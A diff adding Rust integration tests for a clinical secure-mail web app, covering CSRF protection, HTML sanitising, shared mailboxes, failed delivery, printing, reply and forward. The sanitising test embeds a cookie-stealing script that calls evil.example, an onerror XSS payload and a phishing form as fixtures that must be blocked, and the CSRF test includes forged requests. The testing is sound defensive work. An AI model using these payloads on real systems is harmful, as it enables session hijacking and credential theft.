+    // Kim's mail is as she left it
+    assert_eq!(place(&app, km).await, at("inbox", false), "not even read");
+    assert_eq!(place(&app, binned).await, at("trash", false));
+    assert!(
+        messages::folder_label(&app.state.db, kb, &kf)
+            .await
+            .unwrap()
+            .is_some()
+    );
+    assert_eq!(
+        messages::custom_folders(&app.state.db, kb)
+            .await
+            .unwrap()
+            .len(),
+        1
+    );
+    let draft = drafts::get(&app.state.db, kd)
+        .await
+        .unwrap()
+        .expect("draft");
+    assert_eq!(
+        (draft.subject.as_str(), draft.body.as_str()),
+        ("Private draft", "Kim's words")
+    );
+    assert_eq!(
+        drafts::attachments(&app.state.db, kd).await.unwrap().len(),
+        1
+    );
+    assert_eq!(
+        drafts::count(&app.state.db, kb, draft.user_id)
+            .await
+            .unwrap(),
+        1
+    );
+    let by_ana: Vec<_> = directmail::audit::list(&app.state.db, &Default::default(), 1000)
+        .await
+        .unwrap()
+        .into_iter()
+        .filter(|e| e.actor == "ana@direct.lakeside.test")
+        .collect();
+    assert!(
+        !by_ana
+            .iter()
+            .any(|e| e.object.contains(&format!("message:{km}"))
+                || e.detail.contains(&format!("message:{km}"))),
+        "nothing of Kim's was read, printed or moved by Ana: {by_ana:?}"
+    );
+
+    // Kim's own posts without the form's token change nothing either
+    let forged: Vec<(String, String)> = vec![
+        (format!("/mail/{kb}/act"), format!("action=trash&id={km}")),
+        (
+            format!("/mail/{kb}/act"),
+            format!("_csrf=forged&action=trash&id={km}"),
+        ),
+        (format!("/mail/{kb}/trash/empty"), String::new()),
+        (format!("/mail/{kb}/folders"), "name=Forged".to_owned()),
+        (format!("/mail/{kb}/folders/{kf}/delete"), String::new()),
+        (
+            format!("/mail/messages/{km}/act"),
+            "action=archive".to_owned(),
+        ),
+        (
+            format!("/mail/drafts/{kd}"),
+            "to=evil%40x.example&subject=Forged&body=forged".to_owned(),
+        ),
+        (
+            format!("/mail/drafts/{kd}/send"),
+            "to=evil%40x.example&subject=Forged&body=forged".to_owned(),
+        ),
+        (format!("/mail/drafts/{kd}/delete"), String::new()),
+        (format!("/mail/{kb}/compose"), String::new()),
+    ];
+    for (path, body) in forged {
+        let page = kim.post_raw(&path, body).await;
+        assert_eq!(
+            page.status,
+            StatusCode::FORBIDDEN,
+            "POST {path} without token"
+        );
+    }
+    assert_eq!(place(&app, km).await, at("inbox", false));
+    assert_eq!(place(&app, binned).await, at("trash", false));
+    assert_eq!(
+        messages::custom_folders(&app.state.db, kb)
+            .await
+            .unwrap()
+            .len(),
+        1
+    );
+    let draft = drafts::get(&app.state.db, kd)
+        .await
+        .unwrap()
+        .expect("draft");
+    assert_eq!(
+        (draft.subject.as_str(), draft.body.as_str()),
+        ("Private draft", "Kim's words")
+    );
+    assert_eq!(
+        drafts::count(&app.state.db, kb, draft.user_id)
+            .await
+            .unwrap(),
+        1
+    );
+    let queued: i64 = sqlx::query_scalar("select count(*) from outbound_messages")
+        .fetch_one(&app.state.db.pool)
+        .await
+        .unwrap();
+    assert_eq!(queued, 0);
+}
+
+// ---------------------------------------------------------------------------------
+// 9. what a message's body may do
+
+#[tokio::test]
+async fn an_html_message_is_shown_sanitized_in_a_sandboxed_frame_without_remote_images() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let html = r#"<html><body>
+<p>Your patient's <b>results</b> are ready.</p>
+<script>document.location='http://evil.example/steal?c='+document.cookie</script>
+<img src="x" onerror="alert(document.cookie)">
+<img src="http://tracker.example/pixel.gif?who=dr.ana" alt="tracker">
+<form action="http://evil.example/login" method="post"><input name="password"><button>Sign in</button></form>
+<a href="https://portal.example/results">Open the portal</a>
+</body></html>"#;
+    let id = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "lab@partner.example",
+            "dr.ana@direct.lakeside.test",
+            "Results",
+            "",
+        )
+        .html(html),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    // the list shows the words, not the markup or the script
+    let list = ana.get(&format!("/mail/{}/inbox", mb.id)).await;
+    let r = unescape(&row(&list.body, id));
+    assert!(r.contains("Your patient's results are ready."), "{r}");
+    assert!(!r.contains("document.cookie") && !r.contains("<p>"), "{r}");
+    let page = ana.get(&format!("/mail/messages/{id}")).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let frame = Regex::new(r#"<iframe[^>]*>"#)
+        .unwrap()
+        .find(&page.body)
+        .expect("an iframe")
+        .as_str()
+        .to_owned();
+    assert!(frame.contains("sandbox"), "{frame}");
+    assert!(
+        !frame.contains("allow-scripts") && !frame.contains("allow-same-origin"),
+        "{frame}"
+    );
+    assert!(
+        frame.contains(&format!(r#"src="/mail/messages/{id}/body""#)),
+        "{frame}"
+    );
+    assert!(!page.body.contains("tracker.example") && !page.body.contains("<script>document"));
+
+    let body = ana.get(&format!("/mail/messages/{id}/body")).await;
+    assert_eq!(body.status, StatusCode::OK);
+    assert!(header(&body.headers, "content-type").starts_with("text/html"));
+    let csp = header(&body.headers, "content-security-policy");
+    assert!(
+        csp.contains("sandbox") && !csp.contains("allow-scripts"),
+        "{csp}"
+    );
+    let lower = body.body.to_ascii_lowercase();
+    assert!(!lower.contains("<script"), "{}", body.body);
+    assert!(!lower.contains("onerror"), "{}", body.body);
+    assert!(!lower.contains("tracker.example"), "{}", body.body);
+    assert!(!lower.contains("<form"), "{}", body.body);
+    assert!(!lower.contains("evil.example"), "{}", body.body);
+    assert!(
+        body.body.contains("results"),
+        "the text is kept: {}",
+        body.body
+    );
+    assert!(
+        body.body.contains("blocked"),
+        "the blocked image is mentioned: {}",
+        body.body
+    );
+}
+
+#[tokio::test]
+async fn a_text_message_links_web_addresses_and_shows_markup_as_text() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let text = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "lab@partner.example",
+            "dr.ana@direct.lakeside.test",
+            "Guide",
+            "The guide is at http://example.org/guide?a=1&b=2 and <b>bold</b> is not bold.",
+        ),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let page = ana.get(&format!("/mail/messages/{text}")).await;
+    assert!(
+        !page.body.contains(&format!("/mail/messages/{text}/body")),
+        "no frame for text"
+    );
+    let pre = Regex::new(r#"(?s)<pre class="body" id="body">(.*?)</pre>"#)
+        .unwrap()
+        .captures(&page.body)
+        .expect("the text")[1]
+        .to_owned();
+    assert!(!pre.contains("<b>"), "{pre}");
+    assert!(unescape(&pre).contains("<b>bold</b> is not bold."), "{pre}");
+    let link = Regex::new(r#"<a [^>]*href="([^"]+)"[^>]*>"#)
+        .unwrap()
+        .captures(&pre)
+        .unwrap_or_else(|| panic!("a link in {pre}"));
+    assert_eq!(unescape(&link[1]), "http://example.org/guide?a=1&b=2");
+}
+
+// ---------------------------------------------------------------------------------
+// 10. shared mailboxes
+
+#[tokio::test]
+async fn in_a_shared_mailbox_each_member_sees_who_read_a_message() {
+    let app = TestApp::spawn().await;
+    let org = app.org("Lakeside Clinic", "direct.lakeside.test").await;
+    let ana_user = app
+        .user(Some(&org), "ana@direct.lakeside.test", Role::Member)
+        .await;
+    let ben_user = app
+        .user(Some(&org), "ben@direct.lakeside.test", Role::Member)
+        .await;
+    rename(&app, "ana@direct.lakeside.test", "Ana Ruiz").await;
+    rename(&app, "ben@direct.lakeside.test", "Ben Okafor").await;
+    let shared = mailbox(
+        &app,
+        org.id,
+        "direct.lakeside.test",
+        "referrals@direct.lakeside.test",
+        MailboxKind::Shared,
+    )
+    .await;
+    assign(&app, shared.id, ana_user.id).await;
+    assign(&app, shared.id, ben_user.id).await;
+    let id = deliver(
+        &app,
+        shared.id,
+        &Mail::new(
+            "gp@partner.example",
+            "referrals@direct.lakeside.test",
+            "New referral",
+            "Please triage.",
+        ),
+    )
+    .await;
+    let inbox = format!("/mail/{}/inbox", shared.id);
+    let mut ben = app.signed_in("ben@direct.lakeside.test").await;
+    let page = ben.get(&inbox).await;
+    assert!(page.body.contains(r#"<span class="tag">shared</span>"#));
+    assert!(row(&page.body, id).contains(r#"class="unread""#));
+    assert!(!row(&page.body, id).contains("Read by"));
+
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    assert_eq!(
+        ana.get(&format!("/mail/messages/{id}")).await.status,
+        StatusCode::OK
+    );
+
+    let page = ben.get(&inbox).await;
+    let r = row(&page.body, id);
+    assert!(r.contains("Read by Ana Ruiz"), "{r}");
+    assert!(!r.contains(r#"class="unread""#), "{r}");
+    assert_eq!(count(&page.body, "inbox"), 0);
+    let page = ben.get(&format!("/mail/messages/{id}")).await;
+    assert!(page.body.contains("Read by Ana Ruiz, "), "{}", page.body);
+
+    // marking it unread again is also told
+    ben.post(&format!("/mail/messages/{id}/act"), &[("action", "unread")])
+        .await;
+    let page = ana.get(&inbox).await;
+    assert!(row(&page.body, id).contains("Marked unread by Ben Okafor"));
+    assert_eq!(count(&page.body, "inbox"), 1);
+}
+
+// ---------------------------------------------------------------------------------
+// 11. failed delivery
+
+#[tokio::test]
+async fn a_failed_delivery_shows_why_and_edit_and_resend_reopens_the_message_as_a_draft() {
+    let app = TestApp::spawn().await;
+    let ana_box = app
+        .practice(
+            "Lakeside Clinic",
+            "direct.lakeside.test",
+            "ana@direct.lakeside.test",
+            "dr.ana@direct.lakeside.test",
+        )
+        .await;
+    let letter = pdf("Discharge summary");
+    // written before the recipient's certificate disappeared: the sender finds none
+    let draft = Draft {
+        to: vec!["dr.who@elsewhere.example".into()],
+        subject: "Discharge summary".into(),
+        text: "Summary attached.\nCall me with questions.".into(),
+        attachments: vec![Attachment {
+            name: "summary.pdf".into(),
+            content_type: "application/pdf".into(),
+            data: letter.clone(),
+        }],
+        ..Default::default()
+    };
+    let outbound_id =
+        directmail::outbound::submit_draft(&app.state.db, &ana_box, "ana", &draft, app.now())
+            .await
+            .unwrap();
+    app.state.wake_sender.notify_one();
+    let end = deadline();
+    loop {
+        let statuses = directmail::store::outbound::statuses(&app.state.db, outbound_id)
+            .await
+            .unwrap();
+        if statuses.iter().any(|(_, state, _)| state == "failed") {
+            break;
+        }
+        assert!(Instant::now() < end, "{statuses:?}");
+        pause().await;
+    }
+    let sent = messages::sent_copy(&app.state.db, outbound_id)
+        .await
+        .unwrap()
+        .expect("a Sent copy");
+
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let list = ana.get(&format!("/mail/{}/sent", ana_box.id)).await;
+    let r = row(&list.body, sent);
+    assert!(r.contains("1 failed") && r.contains("badge bad"), "{r}");
+    let page = ana.get(&format!("/mail/messages/{sent}")).await;
+    assert_eq!(page.status, StatusCode::OK);
+    let text = unescape(&page.body);
+    assert!(
+        text.contains("dr.who@elsewhere.example: <strong>failed</strong>"),
+        "{text}"
+    );
+    assert!(
+        text.contains("No certificate was found for dr.who@elsewhere.example"),
+        "{text}"
+    );
+    assert!(page.body.contains(r#"value="resend""#) && page.body.contains("Edit and resend"));
+
+    let r = ana
+        .post(
+            &format!("/mail/messages/{sent}/act"),
+            &[("action", "resend")],
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
+    let id = draft_id(&r.location());
+    let page = ana.get(&r.location()).await;
+    assert_eq!(field(&page, "to"), "dr.who@elsewhere.example");
+    assert_eq!(field(&page, "subject"), "Discharge summary");
+    let body = field(&page, "body");
+    assert!(
+        body.contains("Summary attached.") && body.contains("Call me with questions."),
+        "{body}"
+    );
+    assert!(page.body.contains("summary.pdf"));
+    let files = drafts::attachments(&app.state.db, id).await.unwrap();
+    assert_eq!(files.len(), 1);
+    let (_, _, bytes) = get_bytes(
+        &ana,
+        &format!("/mail/drafts/{id}/attachments/{}", files[0].id),
+    )
+    .await;
+    assert_eq!(bytes, letter);
+    // the failed message stays where it was
+    assert_eq!(place(&app, sent).await, at("sent", true));
+}
+
+// ---------------------------------------------------------------------------------
+// 12. printing, and drafts made from a message
+
+#[tokio::test]
+async fn the_print_view_has_the_subject_headers_and_text_and_is_audited() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let id = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "marc@labs.example",
+            "dr.ana@direct.lakeside.test",
+            "Lab results for Ms. Diaz",
+            "Potassium 4.1 mmol/L.\nNo action needed.",
+        )
+        .named("Marc Dubois")
+        .cc("front@direct.hillside.test")
+        .file("labs.pdf", pdf("Labs")),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let page = ana.get(&format!("/mail/messages/{id}")).await;
+    assert!(page.body.contains(&format!("/mail/messages/{id}/print")));
+    let print = ana.get(&format!("/mail/messages/{id}/print")).await;
+    assert_eq!(print.status, StatusCode::OK);
+    let text = unescape(&print.body);
+    assert!(text.contains("<h1>Lab results for Ms. Diaz</h1>"), "{text}");
+    assert!(text.contains("Marc Dubois <marc@labs.example>"), "{text}");
+    assert!(text.contains("dr.ana@direct.lakeside.test"));
+    assert!(
+        text.contains("<dt>Cc</dt><dd>front@direct.hillside.test</dd>"),
+        "{text}"
+    );
+    assert!(text.contains("Potassium 4.1 mmol/L.") && text.contains("No action needed."));
+    assert!(text.contains("labs.pdf"));
+    assert!(text.contains(TRUSTED));
+    assert!(audited(&app, "message.print", "ana@direct.lakeside.test").await);
+}
+
+#[tokio::test]
+async fn reply_all_and_forward_open_drafts_with_the_right_people_subject_and_files() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let file = pdf("Care plan");
+    let id = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "marc@partner.example",
+            "dr.ana@direct.lakeside.test, nurse@partner.example",
+            "Re: Care plan",
+            "Plan attached.",
+        )
+        .named("Marc Dubois")
+        .cc("front@direct.hillside.test, dr.ana@direct.lakeside.test")
+        .file("plan.pdf", file.clone()),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let open = async |b: &mut Browser, action: &str| -> (i64, Page) {
+        let r = b
+            .post(&format!("/mail/messages/{id}/act"), &[("action", action)])
+            .await;
+        assert_eq!(r.status, StatusCode::SEE_OTHER, "{action}: {}", r.body);
+        let d = draft_id(&r.location());
+        (d, b.get(&r.location()).await)
+    };
+
+    let (_, page) = open(&mut ana, "reply").await;
+    assert_eq!(field(&page, "to"), "marc@partner.example");
+    assert_eq!(field(&page, "cc"), "");
+    assert_eq!(field(&page, "subject"), "Re: Care plan", "no Re: Re:");
+
+    let (_, page) = open(&mut ana, "reply-all").await;
+    assert_eq!(
+        field(&page, "to"),
+        "marc@partner.example, nurse@partner.example"
+    );
+    assert_eq!(
+        field(&page, "cc"),
+        "front@direct.hillside.test",
+        "never oneself"
+    );
+    assert!(field(&page, "body").contains("> Plan attached."));
+
+    let (d, page) = open(&mut ana, "forward").await;
+    assert_eq!(field(&page, "to"), "");
+    assert_eq!(field(&page, "subject"), "Fwd: Re: Care plan");
+    let body = field(&page, "body");
+    assert!(
+        body.contains("Forwarded message")
+            && body.contains("From: marc@partner.example")
+            && body.contains("Plan attached."),
+        "{body}"
+    );
+    let files = drafts::attachments(&app.state.db, d).await.unwrap();
+    assert_eq!(files.len(), 1);
+    assert_eq!(files[0].name, "plan.pdf");
+    let (_, _, bytes) = get_bytes(
+        &ana,
+        &format!("/mail/drafts/{d}/attachments/{}", files[0].id),
+    )
+    .await;
+    assert_eq!(bytes, file);
+    let page = ana.get(&format!("/mail/{}/drafts", mb.id)).await;
+    assert_eq!(count(&page.body, "drafts"), 3);
+    assert!(audited(&app, "draft.create", "ana@direct.lakeside.test").await);
+}
+
+#[tokio::test]
+async fn undoing_a_delete_after_its_folder_was_removed_brings_the_messages_to_the_inbox() {
+    let app = TestApp::spawn().await;
+    let mb = desk(
+        &app,
+        "Lakeside Clinic",
+        "direct.lakeside.test",
+        "ana@direct.lakeside.test",
+        "dr.ana@direct.lakeside.test",
+    )
+    .await;
+    let id = deliver(
+        &app,
+        mb.id,
+        &Mail::new(
+            "lab@partner.example",
+            "dr.ana@direct.lakeside.test",
+            "Filed",
+            "x",
+        ),
+    )
+    .await;
+    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
+    let r = ana
+        .post(
+            &format!("/mail/{}/folders", mb.id),
+            &[("name", "Old cases")],
+        )
+        .await;
+    let key = r.location().rsplit('/').next().unwrap().to_owned();
+    act(
+        &mut ana,
+        mb.id,
+        &[("action", "move"), ("folder", key.as_str())],
+        &[id],
+    )
+    .await;
+    act(&mut ana, mb.id, &[("action", "trash")], &[id]).await;
+    ana.post(&format!("/mail/{}/folders/{key}/delete", mb.id), &[])
+        .await;
+    let r = ana.post(&format!("/mail/{}/undo", mb.id), &[]).await;
+    let page = follow(&mut ana, r).await;
+    assert_eq!(flash(&page.body), "Undone: 1 message back as they were.");
+    assert_eq!(
+        place(&app, id).await,
+        at("inbox", false),
+        "not in a folder that is gone"
+    );
+    assert_eq!(row_ids(&page.body), vec![id]);
+}
